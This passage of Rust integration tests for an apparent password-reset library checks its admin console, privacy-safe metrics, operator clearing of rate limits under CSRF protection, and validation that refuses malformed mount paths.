    assert_eq!(count(&page, "unknown", "hour"), 1);
    assert_eq!(count(&page, "refused_sender", "hour"), 2);
    assert_eq!(count(&page, "refused_sender", "day"), 2);
    // The chain's fallback delivered both from support@.
    assert_eq!(count(&page, "delivered", "hour"), 2);
    assert_eq!(count(&page, "email_queued", "hour"), 4);
    let senders = page.body.split("id=\"senders\"").nth(1).unwrap();
    let noreply = senders.split("noreply@example.test").nth(1).unwrap();
    assert!(
        noreply
            .trim_start()
            .starts_with("</td><td><span class=\"tag bad\">refused")
    );
    let support = senders.split("support@example.test").nth(1).unwrap();
    assert!(
        support
            .trim_start()
            .starts_with("</td><td><span class=\"tag good\">delivered")
    );
    assert!(senders.contains("250 2.0.0 Ok: queued as 4711"));
    assert!(
        page.body.contains("data-delivered=\"2\" data-refused=\"2\""),
        "this hour's bar"
    );
    assert!(page.body.contains("id=\"queue-depth\">0<"), "the queue is empty");
    // Nothing to run or load: no script, no external resource.
    assert!(!page.body.contains("<script"));
    assert!(!page.body.contains("src="));

    // Once the sender is allowed again and delivers, the banner goes.
    app.server.refuse_senders.lock().unwrap().clear();
    user.forgot("dave").await;
    app.deliver().await;
    let recovered = ann.get("/admin").await;
    assert!(!recovered.body.contains("role=\"alert\""), "{}", recovered.body);
    // The search still answers on the landing page and on /search.
    let found = ann.get("/admin/?q=dave").await;
    assert!(found.body.contains("1 account for"), "{}", found.body);
    assert!(ann.get("/admin/search").await.body.contains("Find accounts"));
}

/// Every sample of a metrics text: `name{labels}` → value.
fn samples(text: &str) -> std::collections::BTreeMap<String, f64> {
    text.lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .filter_map(|l| {
            let (series, value) = l.rsplit_once(' ')?;
            Some((series.to_owned(), value.parse().ok()?))
        })
        .collect()
}

#[tokio::test]
async fn metrics_move_by_exactly_what_a_reset_did_and_no_label_holds_an_identifier() {
    let app = start(50).await;
    let stranger = Browser::at(app.base.clone());
    assert_eq!(stranger.get("/metrics").await.status, StatusCode::FORBIDDEN);
    assert_eq!(
        app.operator("mallory").get("/metrics").await.status,
        StatusCode::FORBIDDEN
    );
    let ann = app.operator("op-ann");
    let first = ann.get("/metrics").await;
    assert_eq!(first.status, StatusCode::OK);
    assert!(
        first
            .header("content-type")
            .is_some_and(|t| t.starts_with("application/openmetrics-text")),
        "{:?}",
        first.header("content-type")
    );
    assert!(first.body.ends_with("# EOF\n"));
    let before = samples(&first.body);

    let user = Browser::at(app.base.clone());
    user.forgot("dave").await;
    app.deliver().await;
    let link = app.link_to("family@example.test");
    reset_through_pages(&user, &link, NEW_PASSWORD).await;
    app.deliver().await; // the "password changed" notice

    let last = ann.get("/metrics").await;
    let after = samples(&last.body);
    let mut moved: Vec<(String, f64)> = after
        .iter()
        .filter(|(series, _)| !series.contains("_bucket{") && !series.ends_with("_sum"))
        .map(|(series, v)| (series.clone(), v - before.get(series).copied().unwrap_or(0.0)))
        .filter(|(_, d)| *d != 0.0)
        .collect();
    moved.sort_by(|a, b| a.0.cmp(&b.0));
    assert_eq!(
        moved,
        vec![
            (
                "resetkit_emails_total{result=\"delivered\",reason=\"none\",reply_class=\"2xx\"}".to_owned(),
                2.0
            ),
            ("resetkit_links_opened_total".to_owned(), 1.0),
            ("resetkit_request_duration_seconds_count".to_owned(), 1.0),
            ("resetkit_request_to_delivery_seconds_count".to_owned(), 1.0),
            ("resetkit_requests_total{outcome=\"accepted\"}".to_owned(), 1.0),
            ("resetkit_resets_completed_total".to_owned(), 1.0),
        ],
        "one request, its email and the notice delivered, one link opened, one reset:\n{}",
        last.body
    );
    let token = link.split_once("token=").unwrap().1.to_owned();
    for line in last.body.lines().filter(|l| !l.starts_with('#')) {
        let Some((_, labels)) = line.split_once('{') else {
            continue;
        };
        let labels = labels.split('}').next().unwrap();
        for forbidden in ["@", "u-dave", "dave", "family", &token, "127.0.0.1", "http"] {
            assert!(!labels.contains(forbidden), "a label holds `{forbidden}`: {line}");
        }
    }
}

#[tokio::test]
async fn an_operator_sees_and_clears_an_accounts_spent_rate_limit() {
    let limits = RateLimits {
        per_account: Some(resetkit::policy::Limit {
            max: 2,
            window: std::time::Duration::from_secs(15 * 60),
        }),
        per_client: None,
    };
    let app = start_with(50, limits).await;
    let sent_to_erin = || {
        app.server
            .accepted
            .lock()
            .unwrap()
            .iter()
            .filter(|m| m.expose_text().contains("erin"))
            .count()
    };
    for _ in 0..3 {
        app.service
            .request("erin", &RequestContext::default())
            .await
            .unwrap();
        app.deliver().await;
    }
    assert_eq!(sent_to_erin(), 2, "the third request was throttled");
    let ann = app.operator("op-ann");
    let page = ann.get("/admin/account?id=u-erin").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body
            .contains("Reset emails in the last 15 min: <strong>2 of 2</strong>"),
        "{}",
        page.body
    );
    assert!(page.body.contains("limit reached"), "{}", page.body);
    let csrf = page.csrf();
    ann.post(
        "/admin/account/clear-limit",
        &[("id", "u-erin"), ("csrf_token", &csrf)],
    )
    .await
    .assert_redirect("/admin/account?id=u-erin&done=limit_cleared");
    let page = ann.get("/admin/account?id=u-erin&done=limit_cleared").await;
    assert!(page.body.contains("rate limit was cleared"), "{}", page.body);
    assert!(page.body.contains("<strong>0 of 2</strong>"), "{}", page.body);
    assert!(page.body.contains("below the limit"), "{}", page.body);
    assert!(
        page.body
            .contains("by operator op-ann (2 recorded request(s) forgotten)"),
        "the timeline records who cleared it: {}",
        page.body
    );
    app.service
        .request("erin", &RequestContext::default())
        .await
        .unwrap();
    app.deliver().await;
    assert_eq!(sent_to_erin(), 3, "mail flows again");
    // Another account is not touched; an unknown id is a clear 404.
    let missing = ann
        .post(
            "/admin/account/clear-limit",
            &[("id", "u-nobody"), ("csrf_token", &csrf)],
        )
        .await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
}

/// The pages, the console and the metrics path follow one mount-path rule
/// (`/segment...`, ASCII letters, digits, `-`, `_`; the pages also take
/// `""`), and both routers serve under their mount path when merged.
#[tokio::test]
async fn pages_console_and_metrics_share_one_mount_path_rule() {
    let tokens = Arc::new(InMemoryTokenStore::default());
    let events = Arc::new(InMemoryEventLog::default());
    let pages_for = |mount: &str| {
        let service = ResetService::builder()
            .base_url("http://127.0.0.1:9")
            .allow_insecure_http_for_local_testing()
            .site_name("Test site")
            .accounts(Arc::new(InMemoryAccounts::default()))
            .tokens(tokens.clone())
            .events(events.clone())
            .mailer(Arc::new(ScriptedServer::default()))
            .sender(Arc::new(FixedSender::new(
                Mailbox::address_only("noreply@example.test").unwrap(),
            )))
            .hasher(Arc::new(Argon2Hasher::fast_insecure_for_tests()));
        // The mount path is checked first: a refused one never gets to the links.
        let links_ok = !mount.contains(['.', ' ']) && !mount.contains("//");
        let service = if links_ok {
            resetkit_axum::link_paths(service, mount)
        } else {
            service
        };
        ResetPages::builder(service.build().unwrap())
            .mount_path(mount)
            .build()
    };
    let pages = pages_for("").unwrap();
    let console_stores = || resetkit::flow::ConsoleStores::new(events.clone(), tokens.clone());
    let console_at = |mount: &str| {
        AdminConsole::builder(
            &pages,
            Arc::new(guard_fn(|_| Some("op".into()))),
            console_stores(),
        )
        .mount_path(mount)
        .build()
    };
    let metrics_at = |path: &str| {
        console_at("/admin")
            .unwrap()
            .metrics_router(resetkit::metrics::ResetMetrics::new(), path)
    };
    for good in ["/ops", "/ops/console", "/a-b_c/D9"] {
        assert!(pages_for(good).is_ok(), "pages refused {good}");
        assert!(console_at(good).is_ok(), "console refused {good}");
        assert!(metrics_at(good).is_ok(), "metrics refused {good}");
    }
    for bad in [
        "/",
        "ops",
        "/ops/",
        "//evil.example",
        "/a//b",
        "/a/../b",
        "/./x",
        "/v1.0",
        "/a b",
        "/é",
    ] {
        let refused = |e: resetkit_axum::BuildError| matches!(e, resetkit_axum::BuildError::MountPath(ref p) if p == bad);
        assert!(pages_for(bad).is_err_and(refused), "pages took {bad:?}");
        assert!(console_at(bad).is_err_and(refused), "console took {bad:?}");
        assert!(metrics_at(bad).is_err_and(refused), "metrics took {bad:?}");
    }
    // The root is the pages' default; a console at the root would shadow the host.
    assert!(console_at("").is_err());
    assert!(metrics_at("").is_err());
    // Merged (not nested), each router answers under its own mount path.
    let pages = pages_for("/password").unwrap();
    let console = AdminConsole::builder(
        &pages,
        Arc::new(guard_fn(|_| Some("op".into()))),
        console_stores(),
    )
    .mount_path("/ops/console")
    .build()
    .unwrap();
    let app = axum::Router::new().merge(pages.router()).merge(console.router());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(resetkit_axum::serve(
        listener,
        app,
        ServeOptions::default(),
        std::future::pending(),
    ));
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    for (path, status) in [
        ("/password/forgot", 200),
        ("/forgot", 404),
        ("/ops/console/search", 200),
        ("/admin/search", 404),
        ("/ops/console/nothing-here", 404),
    ] {
        let got = client.get(format!("http://{addr}{path}")).send().await.unwrap();
        assert_eq!(got.status().as_u16(), status, "{path}");
    }
}
